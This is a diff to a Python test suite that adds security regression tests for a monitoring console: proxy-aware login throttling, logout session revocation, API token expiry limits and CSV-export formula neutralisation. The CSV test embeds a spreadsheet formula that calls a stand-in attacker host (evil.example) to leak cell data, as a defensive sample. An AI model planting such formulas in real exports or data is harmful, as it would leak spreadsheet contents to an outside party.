@@ -7,6 +7,8 @@ Every test here failed on the main of issue 16 and passes since; each names the 
 
 from __future__ import annotations
 
+import csv
+import io
 import math
 import re
 import threading
@@ -204,7 +206,7 @@ def test_the_console_works_in_chromium_under_its_csp(live_console: str) -> None:
         assert d.find_elements(By.CSS_SELECTOR, "#compliance-table svg.bar rect")  # the share bars, as SVG
         d.execute_script("const s = document.createElement('style'); s.textContent = 'body{color:red}';"
                          "document.head.appendChild(s);")
-        tests_wait(lambda: d.execute_script("return window.__csp.length") > 0, "the CSP refusing an inline style")
+        _wait_until(lambda: d.execute_script("return window.__csp.length") > 0, "the CSP refusing an inline style")
         assert any("style-src" in v for v in d.execute_script("return window.__csp"))
         d.find_element(By.ID, "logout").click()
         wait_for_element(d, "login-form")
@@ -220,7 +222,156 @@ def wait_for_element(d: Any, element_id: str) -> Any:
     return WebDriverWait(d, 15).until(ec.presence_of_element_located((By.ID, element_id)))
 
 
-def tests_wait(condition: Callable[[], bool], what: str) -> None:
+def _wait_until(condition: Callable[[], bool], what: str) -> None:
     from tests.helpers import wait_for
 
     wait_for(condition, timeout=10, what=what)
+
+
+# --- sign-in throttle behind (or not behind) a proxy ----------------------------------------------------
+
+
+@pytest.fixture
+def served(fleet: Fleet) -> Iterator[Callable[..., str]]:
+    """Start the app on a real HTTP server on 127.0.0.1 with the given trusted proxies; returns its URL."""
+    from collector.api.app import create_app
+    from collector.api.server import HTTPServer
+
+    servers = []
+
+    def start(trusted_proxies: list[str]) -> str:
+        server = HTTPServer(create_app(fleet.engine, trusted_proxies=trusted_proxies), "127.0.0.1", 0)
+        server.start()
+        servers.append(server)
+        return f"http://127.0.0.1:{server.port}"
+
+    yield start
+    for server in servers:
+        server.stop()
+
+
+def _sign_in(url: str, source: str, forwarded_for: str | None, password: str = "wrong-password-x") -> int:
+    """POST the login form from the local address `source` (a loopback alias), optionally with X-Forwarded-For."""
+    import httpx
+
+    headers = {"X-Forwarded-For": forwarded_for} if forwarded_for else {}
+    with httpx.Client(transport=httpx.HTTPTransport(local_address=source), timeout=10) as http:
+        r = http.post(url + "/console/login", data={"user": "a-admin", "password": password}, headers=headers)
+    return r.status_code
+
+
+def test_a_spoofed_forwarded_for_from_an_untrusted_peer_cannot_pick_its_bucket(served: Callable[..., str]) -> None:
+    url = served([])  # the default: no trusted proxies
+    for i in range(5):
+        assert _sign_in(url, "127.0.0.1", f"198.51.100.{i}") == 401
+    # A fresh made-up address per try changes nothing: the peer is the client, and it is throttled.
+    assert _sign_in(url, "127.0.0.1", "198.51.100.77", PASSWORD) == 429
+
+
+def test_behind_a_trusted_proxy_each_client_has_its_own_bucket(served: Callable[..., str]) -> None:
+    url = served(["127.0.0.2"])  # the proxy connects from 127.0.0.2
+    for _ in range(5):
+        assert _sign_in(url, "127.0.0.2", "203.0.113.7") == 401
+    assert _sign_in(url, "127.0.0.2", "203.0.113.7", PASSWORD) == 429
+    # Another client behind the same proxy is not locked out with it.
+    assert _sign_in(url, "127.0.0.2", "203.0.113.8", PASSWORD) == 303
+    # The client's own claim left of what the proxy appended does not move it to another bucket.
+    assert _sign_in(url, "127.0.0.2", "203.0.113.9, 203.0.113.7", PASSWORD) == 429
+    # A peer that is not the proxy is itself the client, whatever it claims.
+    assert _sign_in(url, "127.0.0.3", "203.0.113.7", PASSWORD) == 303
+
+
+def test_client_address_takes_the_rightmost_untrusted_hop() -> None:
+    from collector.api.throttle import client_address, parse_networks
+
+    proxies = parse_networks(["10.0.0.0/24", "::1"])
+    assert client_address("10.0.0.5", ["1.1.1.1, 2.2.2.2, 10.0.0.9"], proxies) == "2.2.2.2"
+    assert client_address("::1", ["2001:db8::1"], proxies) == "2001:db8::1"
+    assert client_address("192.0.2.1", ["1.1.1.1"], proxies) == "192.0.2.1"  # peer not a proxy
+    assert client_address("10.0.0.5", [], proxies) == "10.0.0.5"
+    assert client_address("10.0.0.5", ["x" * 10_000], proxies) == "x" * 64  # bounded key
+    assert client_address("192.0.2.1", ["1.1.1.1"], ()) == "192.0.2.1"
+
+
+def test_a_bad_trusted_proxy_is_refused_naming_file_key_and_expectation(tmp_path: Path) -> None:
+    from collector import config
+    from linecheck.configfile import ConfigError
+
+    path = tmp_path / "collector.yaml"
+    path.write_text("http:\n  trusted_proxies: [10.0.0.1, proxy.example]\n")
+    with pytest.raises(ConfigError) as refused:
+        config.load(path)
+    text = str(refused.value)
+    assert str(path) in text and "http.trusted_proxies" in text and "expected an IP address or network" in text
+    path.write_text("http:\n  trusted_proxies: [10.0.0.1, 10.1.0.0/16, '::1']\n")
+    assert config.load(path).http.trusted_proxies == ["10.0.0.1", "10.1.0.0/16", "::1"]
+
+
+# --- logout and API tokens ------------------------------------------------------------------------------
+
+
+def _session_cookie(client: TestClient) -> str:
+    return client.cookies.get("lc_session")  # type: ignore[return-value]
+
+
+def test_logout_revokes_the_session_even_without_the_csrf_token(client: TestClient, fleet: Fleet) -> None:
+    login(client, "a-admin")
+    stolen = _session_cookie(client)
+    assert client.post("/console/logout", data={}, follow_redirects=False).status_code == 303
+    # A copy of the cookie (taken before the user signed out) is worth nothing now.
+    client.cookies.set("lc_session", stolen)
+    assert client.get("/console/", follow_redirects=False).status_code == 303
+    assert client.get("/api/v1/me").status_code == 401
+
+
+def test_every_api_token_expires_and_none_outlives_its_maker(client: TestClient, fleet: Fleet) -> None:
+    now = datetime.now(UTC)
+    h = auth(fleet, "a-admin")
+    r = client.post("/api/v1/tokens", headers=h, json={"name": "forever", "expires_in_days": None})
+    assert r.status_code == 422  # "never" is not an expiry
+    r = client.post("/api/v1/tokens", headers=h, json={"name": "long", "expires_in_days": 3650})
+    assert r.status_code == 201
+    expires = datetime.fromisoformat(r.json()["expires_at"])
+    assert expires <= now + timedelta(days=90, minutes=1)
+    # A token minted with a short-lived token cannot outlive it (no self-renewing stolen token).
+    from collector.api.accounts import Accounts
+
+    _, short = Accounts(fleet.engine).issue_token("a-admin", name="short", ttl=timedelta(hours=1))
+    r = client.post("/api/v1/tokens", headers={"Authorization": f"Bearer {short}"}, json={"name": "child"})
+    assert r.status_code == 201
+    assert datetime.fromisoformat(r.json()["expires_at"]) <= now + timedelta(hours=1, minutes=1)
+    # From a console session: bounded by the configured maximum.
+    client.app.state.api_token_max_days = 7  # type: ignore[attr-defined]
+    login(client, "a-viewer")
+    page = client.get("/console/account").text
+    assert client.post("/console/account/tokens", data={"csrf": csrf_of(page), "name": "cli"}).status_code == 200
+    rows = [row for row in Accounts(fleet.engine).tokens("a-viewer") if row["name"] == "cli"]
+    assert rows and all(row["expires_at"] is not None and row["expires_at"] <= now + timedelta(days=7, minutes=1)
+                        for row in rows)
+    r = client.post("/api/v1/tokens", headers=auth(fleet, "a-viewer"), json={"name": "x", "expires_in_days": 30})
+    assert datetime.fromisoformat(r.json()["expires_at"]) <= now + timedelta(days=7, minutes=1)
+
+
+# --- CSV exports: no formula from a gateway reaches a spreadsheet ---------------------------------------
+
+
+def test_csv_exports_neutralise_formulas_but_keep_numbers(client: TestClient, fleet: Fleet) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    check = ping_check()
+    check.target = formula
+    check.metrics["rtt_avg_ms"] = -1.0
+    fleet.store.ingest([envelope("acme-gw2", "acme-xuhui-2", checks=[check], site_id="acme-xuhui",
+                                 started_at=datetime.now(UTC) - timedelta(minutes=5))])
+    body = client.get("/api/v1/exports/results.csv", headers=auth(fleet, "a-admin"),
+                      params={"line_id": "acme-xuhui-2"}).text
+    rows = list(csv.DictReader(io.StringIO(body)))
+    mine = [r for r in rows if r["target"].endswith(formula)]
+    assert mine, "the stored result is in the export"
+    assert all(r["target"] == "'" + formula for r in mine)
+    assert any(r["metric"] == "rtt_avg_ms" and r["value"] == "-1.0" for r in mine)  # a number, not '-1.0
+    for r in rows:
+        assert not any(v.startswith(("=", "+", "@")) for v in r.values()), r
+    from collector.api.routes_exports import neutralise
+
+    assert [neutralise(v) for v in ("-1", "+2.5", "-1e3", "@SUM(A1)", "-x", "\tcmd", "ok")] == [
+        "-1", "+2.5", "-1e3", "'@SUM(A1)", "'-x", "'\tcmd", "ok"]
